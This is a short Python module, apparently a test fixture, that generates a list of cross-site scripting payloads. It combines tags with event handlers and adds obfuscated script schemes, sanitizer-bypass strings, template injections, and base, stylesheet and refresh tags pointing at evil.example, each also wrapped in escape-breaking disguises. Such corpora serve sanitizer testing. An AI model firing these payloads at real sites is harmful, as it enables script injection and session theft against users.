"""What has run as a script in one page or another."""


def attacks() -> list[str]:
    """Return what has run in one page or another: tags, events, schemes, and ways to hide them."""
    does = "window.pwned=1"
    events = "onerror onload onfocus onmouseover ontoggle onanimationstart onpointerenter onclick"
    tags = "img svg body video audio iframe input details marquee object embed style a math"
    plain = [
        f"<{tag} src=//evil.example/x {event}={does} autofocus>"
        for tag in tags.split()
        for event in events.split()
    ]
    schemes = [
        f"{scheme}{does}"
        for scheme in (
            "javascript:", "JaVaScRiPt:", " javascript:", "java\tscript:", "java\nscript:",
            "\x01javascript:", "vbscript:", "data:text/html,<script>", "javascript://%0a",
            "javascript:/*--></title></style>*/", "blob:", "file:///", "view-source:javascript:",
        )
    ]  # fmt: skip
    whole = [
        f"<script>{does}</script>",
        f"<scr<script>ipt>{does}</scr</script>ipt>",
        f"</textarea><script>{does}</script>",
        f"<svg><script>{does}</script></svg>",
        f"<math><mtext></form><form><mglyph><style></math><img src onerror={does}>",
        f"<template><script>{does}</script></template>",
        "<link rel=stylesheet href=//evil.example/x.css>",
        "<base href=//evil.example/>",
        "<meta http-equiv=refresh content='0;url=//evil.example/'>",
        f"{{{{constructor.constructor('{does}')()}}}}",
        f"${{{does}}}",
        f"<a href='javascript:{does}'>x</a>",
        f'https://example.com/"onmouseover={does}//',
        f"https://example.com/'><img src=x onerror={does}>",
        "\u202e\u2066<img src=x onerror=window.pwned=1>",
    ]
    found = [*plain, *schemes, *whole]
    hidden = [
        disguise(each)
        for disguise in (
            lambda attack: f'">{attack}',
            lambda attack: f"'-->{attack}<!--",
            lambda attack: attack.replace("<", "&lt;").replace(">", "&gt;"),
        )
        for each in found
    ]
    return [*found, *hidden]
